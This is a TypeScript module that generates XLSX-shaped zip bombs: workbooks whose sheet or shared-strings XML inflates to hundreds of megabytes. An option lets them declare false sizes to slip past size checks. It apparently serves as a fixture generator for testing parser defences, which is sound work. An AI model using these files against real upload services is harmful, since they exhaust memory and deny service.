// Zip bombs shaped as XLSX workbooks, built in memory: hundreds of megabytes of XML that deflate to kilobytes.
// A piece repeated N times is deflated once: after a full flush the compressor starts afresh, so the same input
// gives the same block, and the block repeated N times is a valid deflate stream of the piece repeated N times.
import { once } from 'node:events'
import { writeFileSync } from 'node:fs'
import { constants, createDeflateRaw } from 'node:zlib'

const MiB = 1024 * 1024

export interface Piece {
  text: string
  times?: number
}

export interface Deflated {
  data: Buffer
  /** The true inflated size. */
  size: number
}

/** Raw deflate of the pieces, each repeated `times` (default 1). */
export async function deflatePieces(pieces: Piece[]): Promise<Deflated> {
  const d = createDeflateRaw({ level: 9 })
  let pending: Buffer[] = []
  d.on('data', (b: Buffer) => pending.push(b))
  const take = () => {
    const b = Buffer.concat(pending)
    pending = []
    return b
  }
  const out: Buffer[] = []
  let size = 0
  for (const p of pieces) {
    const bytes = Buffer.from(p.text, 'utf8')
    d.write(bytes)
    await new Promise<void>((resolve) => d.flush(constants.Z_FULL_FLUSH, () => resolve()))
    const block = take()
    for (let i = 0; i < (p.times ?? 1); i++) out.push(block)
    size += bytes.length * (p.times ?? 1)
  }
  d.end()
  await once(d, 'end')
  out.push(take())
  return { data: Buffer.concat(out), size }
}

export interface ZipEntry {
  name: string
  deflated: Deflated
  /** The size the local header and the central directory declare (default: the true size). */
  declaredSize?: number
}

/** A zip archive (deflate, no CRC: the readers do not check it) of the entries. */
export function zipArchive(entries: ZipEntry[]): Buffer {
  const locals: Buffer[] = []
  const central: Buffer[] = []
  let offset = 0
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8')
    const declared = e.declaredSize ?? e.deflated.size
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(20, 4) // version needed
    local.writeUInt16LE(0x0800, 6) // UTF-8 names
    local.writeUInt16LE(8, 8) // deflate
    local.writeUInt16LE(0, 10) // time
    local.writeUInt16LE(0x21, 12) // 1980-01-01
    local.writeUInt32LE(0, 14) // crc
    local.writeUInt32LE(e.deflated.data.length, 18)
    local.writeUInt32LE(declared, 22)
    local.writeUInt16LE(name.length, 26)
    local.writeUInt16LE(0, 28)
    const cd = Buffer.alloc(46)
    cd.writeUInt32LE(0x02014b50, 0)
    cd.writeUInt16LE(20, 4) // made by
    cd.writeUInt16LE(20, 6) // needed
    cd.writeUInt16LE(0x0800, 8)
    cd.writeUInt16LE(8, 10)
    cd.writeUInt16LE(0, 12)
    cd.writeUInt16LE(0x21, 14)
    cd.writeUInt32LE(0, 16)
    cd.writeUInt32LE(e.deflated.data.length, 20)
    cd.writeUInt32LE(declared, 24)
    cd.writeUInt16LE(name.length, 28)
    cd.writeUInt32LE(offset, 42)
    locals.push(local, name, e.deflated.data)
    central.push(cd, name)
    offset += local.length + name.length + e.deflated.data.length
  }
  const cdBytes = Buffer.concat(central)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(entries.length, 8)
  end.writeUInt16LE(entries.length, 10)
  end.writeUInt32LE(cdBytes.length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...locals, cdBytes, end])
}

const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const PKG_REL = 'http://schemas.openxmlformats.org/package/2006/relationships'

/** An inline-string cell at column `col` (0-based, up to Z) of row `row`. */
function cell(col: number, row: number, text: string): string {
  return `<c r="${String.fromCharCode(65 + col)}${row}" t="inlineStr"><is><t>${text}</t></is></c>`
}

/** A header row of the given cells, as row 1 of a sheet. */
function headerRow(headers: string[]): string {
  return `<row r="1">${headers.map((h, i) => cell(i, 1, h)).join('')}</row>`
}

export interface BombOptions {
  /** What the bomb repeats: one giant cell of repeated text, many rows, or shared strings. */
  shape: 'text' | 'rows' | 'shared_strings' | 'rich_text'
  /** Inflated megabytes of the repeated part. */
  megabytes: number
  /** Declare the sizes truthfully (default) or as `lie` bytes. */
  lie?: number
  headers?: string[]
}

/** An XLSX whose sheet (or shared-strings table) inflates to `megabytes` MB; its own size is a few hundred KB. */
export async function xlsxBomb(o: BombOptions): Promise<Buffer> {
  const headers = o.headers ?? ['CF_XDR_MC', 'CF_WSH']
  const plain = async (text: string) => deflatePieces([{ text }])
  const sheetHead = `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="${MAIN}"><sheetData>${headerRow(headers)}`
  const sheetTail = '</sheetData></worksheet>'
  const unitOf = (piece: string) => piece.repeat(Math.max(1, Math.floor(MiB / Buffer.byteLength(piece))))
  let sheet: Deflated
  let shared: Deflated | null = null
  if (o.shape === 'text') {
    sheet = await deflatePieces([
      { text: `${sheetHead}<row r="2"><c r="A2" t="inlineStr"><is><t>` },
      { text: 'A'.repeat(MiB), times: o.megabytes },
      { text: `</t></is></c></row>${sheetTail}` },
    ])
  } else if (o.shape === 'rows') {
    // every repeat is row 2 again: the reader does not mind, and the unit stays the same
    const unit = unitOf(`<row r="2">${headers.map((_, i) => cell(i, 2, '天津市某某商贸有限公司')).join('')}</row>`)
    sheet = await deflatePieces([{ text: sheetHead }, { text: unit, times: o.megabytes }, { text: sheetTail }])
  } else {
    const unit = unitOf(
      o.shape === 'rich_text' ? '<si><r><rPr><b/></rPr><t>a</t></r></si>' : '<si><t>天津市某某商贸有限公司</t></si>',
    )
    shared = await deflatePieces([
      { text: `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="${MAIN}">` },
      { text: unit, times: o.megabytes },
      { text: '</sst>' },
    ])
    sheet = await plain(
      `${sheetHead}<row r="2"><c r="A2" t="s"><v>0</v></c><c r="B2" t="s"><v>1</v></c></row>${sheetTail}`,
    )
  }
  const lie = (d: Deflated) => (o.lie !== undefined ? o.lie : d.size)
  return xlsxPackage({
    sheet,
    sheetDeclared: shared ? sheet.size : lie(sheet),
    ...(shared ? { shared, sharedDeclared: lie(shared) } : {}),
  })
}

/** A one-sheet workbook around a deflated sheet (and shared-strings table), with the sizes it declares for them. */
export async function xlsxPackage(o: {
  sheet: Deflated
  sheetDeclared?: number
  shared?: Deflated
  sharedDeclared?: number
}): Promise<Buffer> {
  const plain = async (text: string) => deflatePieces([{ text }])
  const entries: ZipEntry[] = [
    {
      name: '[Content_Types].xml',
      deflated: await plain(
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
          '<Default Extension="xml" ContentType="application/xml"/>' +
          '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>' +
          '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>' +
          '</Types>',
      ),
    },
    {
      name: '_rels/.rels',
      deflated: await plain(
        `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${PKG_REL}"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
      ),
    },
    {
      name: 'xl/workbook.xml',
      deflated: await plain(
        `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="${MAIN}" xmlns:r="${REL}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`,
      ),
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      deflated: await plain(
        `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${PKG_REL}"><Relationship Id="rId1" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
      ),
    },
    { name: 'xl/worksheets/sheet1.xml', deflated: o.sheet, declaredSize: o.sheetDeclared ?? o.sheet.size },
  ]
  if (o.shared)
    entries.push({ name: 'xl/sharedStrings.xml', deflated: o.shared, declaredSize: o.sharedDeclared ?? o.shared.size })
  return zipArchive(entries)
}

/** Writes a bomb to `path`; returns its size in bytes. */
export async function writeXlsxBomb(path: string, o: BombOptions): Promise<number> {
  const bytes = await xlsxBomb(o)
  writeFileSync(path, bytes)
  return bytes.length
}
